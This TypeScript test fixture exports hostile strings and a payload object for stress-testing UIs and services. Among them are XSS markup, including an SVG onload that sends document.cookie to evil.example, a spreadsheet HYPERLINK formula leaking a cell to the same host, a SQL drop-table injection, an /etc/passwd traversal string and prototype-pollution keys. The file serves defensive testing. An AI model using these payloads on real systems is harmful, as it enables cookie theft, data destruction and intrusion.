const createControlCharacter = (code: number) => String.fromCharCode(code);
const combiningMarks = "\u0301\u0323\u0334\u0489\u0360\u0345\u035c\u1dfd";

/**
 * Texts that break careless UIs, for example with markup, changes of the text direction, invisible
 * characters, or formulas. They don't contain NUL, which PostgreSQL rejects.
 */
export const hostileTexts = {
  script: `<script>document.title='owned'</script>`,
  image: `<img src=x onerror="alert(document.domain)">`,
  svg: `"><svg/onload=fetch('https://evil.example/'+document.cookie)>`,
  frame: `<iframe srcdoc="<script>parent.postMessage('x','*')</script>"></iframe>`,
  style: `<style>*{display:none!important}</style>`,
  link: `javascript:alert(1)//https://www.larkfield.example`,
  liquid: `{{ 'a' | repeat: 999999 }}{% for i in (1..999999999) %}x{% endfor %}`,
  formula: `=HYPERLINK("https://evil.example/?"&A1,"Total")`,
  query: `'; drop table events; --`,
  bidi: `invoice\u202Egpj.exe\u202C \u2066left\u2069 \u200Fright`,
  zeroWidth: `pay\u200Bpal\u200D.\u2060com\uFEFF\u00AD`,
  combining: `Z${combiningMarks.repeat(12)}a${combiningMarks.repeat(12)}l${combiningMarks.repeat(12)}go`,
  emoji: `👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈${"👍🏿".repeat(40)}`,
  long: `Very${"long".repeat(1500)}`,
  words: "no break ".repeat(600).trim(),
  control: `bell${createControlCharacter(7)} escape${createControlCharacter(27)}[31mred${createControlCharacter(27)}[0m tab\t return\r\nline${createControlCharacter(0x85)}${createControlCharacter(0x9b)}`,
  lookAlike: "Lаrkfield Suppоrt", // Cyrillic а and о
  separators: `one\u2028two\u2029three\u000bfour\u000cfive`,
  percent: "%s %n %00 %2e%2e%2f ../../etc/passwd \\..\\",
  prototype: "__proto__",
} as const;

/** Returns a copy of data with `{hostile.name}` replaced by the text of that name. */
export const fillHostileTexts = (data: unknown): unknown =>
  JSON.parse(JSON.stringify(data), (_, value: unknown) =>
    typeof value === "string"
      ? value.replace(/\{hostile\.(\w+)\}/g, (placeholder, name: string) =>
          name in hostileTexts ? hostileTexts[name as keyof typeof hostileTexts] : placeholder,
        )
      : value,
  );

/** A payload with the hostile keys and values that the service accepts. */
export const hostilePayload: Readonly<Record<string, unknown>> = {
  ...hostileTexts,
  [hostileTexts.script]: "markup in a key",
  [hostileTexts.bidi]: "direction in a key",
  "": "empty key",
  constructor: { prototype: { polluted: true } },
  1: "number-like key",
  "01": "almost",
  numbers: [1e308, 0.1, 9007199254740991],
  empty: { list: [], object: {}, text: "", nothing: null },
  deep: Array.from({ length: 40 }).reduce<unknown>((inner) => ({ inner }), "bottom"),
  nested: JSON.stringify({ inner: JSON.stringify({ most: hostileTexts.image }) }),
};
